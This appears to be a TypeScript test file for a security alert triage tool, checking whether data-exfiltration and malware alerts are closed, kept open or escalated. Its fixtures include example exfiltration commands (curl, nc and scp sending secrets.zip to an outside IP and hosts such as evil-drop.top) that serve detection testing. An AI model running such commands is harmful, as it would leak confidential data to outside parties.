import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../../domain/alert';
import { before } from './situations';
import { judgedBySilence, outcomeOf } from './trusting';

/** What leaves beside a destination that the site knows. */

const SMALL: Partial<Alert> = { hostname: 'ws1', domain: 'contoso-partner.com', bytes_out: 5_000_000 };

test('a small transfer stays open while anything of it names another place or person outside', () => {
  assert.equal(outcomeOf('data_exfil', SMALL), 'close');
  for (const change of [
    { command_line: 'curl --data-binary @secrets.zip 45.155.205.233:8443' },
    { command_line: 'nc 45.155.205.233 443 < secrets.zip' },
    { command_line: 'scp secrets.zip me@evil-drop.top:/tmp' },
    { command_line: 'curl -T s.zip transfer.sh' },
    { command_line: 'curl -T s.zip evil.sh' },
    { description: 'secrets.zip went to transfer.sh' },
    { description: 'secrets.zip was attached for private@gmail.com' },
    { email_to: ['private@gmail.com'] },
    { email_to: ['thief@evil.top, bob@corp.example'] },
    { email_to: ['bob@corp.example; thief@evil.top'] },
    { email_to: ['undisclosed recipients'] },
  ] satisfies Partial<Alert>[]) {
    const { decision } = judgedBySilence('data_exfil', { ...SMALL, ...change });
    assert.equal(decision.outcome, 'open', JSON.stringify(change));
    assert.doesNotMatch(decision.reason, /neither the rule/, JSON.stringify(change));
    assert.doesNotMatch(decision.recommendations.join(' '), /Nothing to do/, JSON.stringify(change));
  }
});

test('the everyday of a partner closes', () => {
  for (const change of [
    { email_to: ['Bob <bob@corp.example>'] },
    { email_to: ['"Doe, Jane" <jane@contoso-partner.com>; bob@corp.example'] },
    { description: 'See https://attack.mitre.org/techniques/T1048' },
    { description: 'upload of plans by bob@corp.example from 10.0.0.7' },
    { process: 'winscp.exe' },
    { command_line: 'curl -T plans.zip https://files.contoso-partner.com/in/' },
    { command_line: 'rclone copy C:\\plans sftp.contoso-partner.com:in' },
    { domain: 'contoso-partner[.]com' },
    { domain: 'https://contoso-partner.com/in' },
  ] satisfies Partial<Alert>[]) {
    assert.equal(outcomeOf('data_exfil', { ...SMALL, ...change }), 'close', JSON.stringify(change));
  }
});

test('much is told of, however its destination is written, and whatever known name stands beside it', () => {
  const much = { hostname: 'ws1', bytes_out: 900_000_000_000 };
  for (const change of [
    { domain: 'contoso-partner.com', dest_ip: '45.155.205.233', dest_hostname: 'mega.nz' },
    { domain: 'contoso-partner.com', dest_ip: '45.155.205.233', dest_hostname: 'evil-drop.top' },
    { dest_hostname: 'contoso-partner.com', domain: 'https://mega.nz/x' },
    { dest_hostname: 'contoso-partner.com', domain: 'mega[.]nz' },
  ] satisfies Partial<Alert>[]) {
    assert.equal(outcomeOf('data_exfil', { ...much, ...change }), 'escalate', JSON.stringify(change));
  }
  for (const change of [
    { domain: 'contoso-partner[.]com' },
    {
      domain: 'contoso-partner.com',
      dest_ip: '52.28.9.10',
      dest_hostname: 'ec2-52-28-9-10.eu-central-1.compute.amazonaws.com',
    },
    { domain: 'contoso-partner.com', dest_ip: '13.224.1.2', dest_hostname: 'server-13-224-1-2.fra2.r.cloudfront.net' },
    { domain: 'contoso-partner.com', dest_ip: '142.250.1.2', dest_hostname: 'fra16s50-in-f2.1e100.net' },
  ] satisfies Partial<Alert>[]) {
    assert.notEqual(outcomeOf('data_exfil', { ...much, ...change }), 'escalate', JSON.stringify(change));
  }
});

test('nothing that leaves a host on which harm was proven the same day is closed', () => {
  const { decision } = judgedBySilence('data_exfil', SMALL, { earlier: [before('host:ws1')] });
  assert.equal(decision.outcome, 'open');
  assert.match(decision.reason, /INC-1/);
  assert.equal(outcomeOf('data_exfil', SMALL, { earlier: [before('host:ws1', { verdict: 'suspicious' })] }), 'close');
});

test('what is to be done about a file does not contradict that it stays open', () => {
  const good = '1b'.repeat(32);
  for (const alerts of [
    [
      { file_name: 'evil.exe', outcome: 'blocked', hostname: 'ws1' },
      { file_name: 'good.exe', file_hash: good, outcome: 'blocked', hostname: 'ws1' },
    ],
    [{ file_name: 'evil.exe', outcome: 'blocked', hostname: 'ws1', description: `parent sha256 ${good}` }],
    [{ file_name: 'evil.exe', outcome: 'blocked', hostname: 'ws1', url: 'https://newsletter.com/evil.exe' }],
  ] satisfies Partial<Alert>[][]) {
    const { assessment, decision } = judgedBySilence('malware', alerts);
    assert.deepEqual([assessment.verdict, decision.outcome], ['benign', 'open']);
    assert.match(decision.reason, /evil\.exe/);
    assert.doesNotMatch(decision.recommendations.join(' '), /Release/);
    assert.match(decision.recommendations.join(' '), /Find .*evil\.exe.* on ws1/);
  }
  const ran = judgedBySilence('malware', { file_hash: good, executed: true, hostname: 'ws1' }).decision;
  assert.match(ran.reason, /ran/);
  const passed = judgedBySilence('malware', { file_hash: good, outcome: 'allowed', hostname: 'ws1' }).decision;
  assert.match(passed.reason, /blocked/);
});
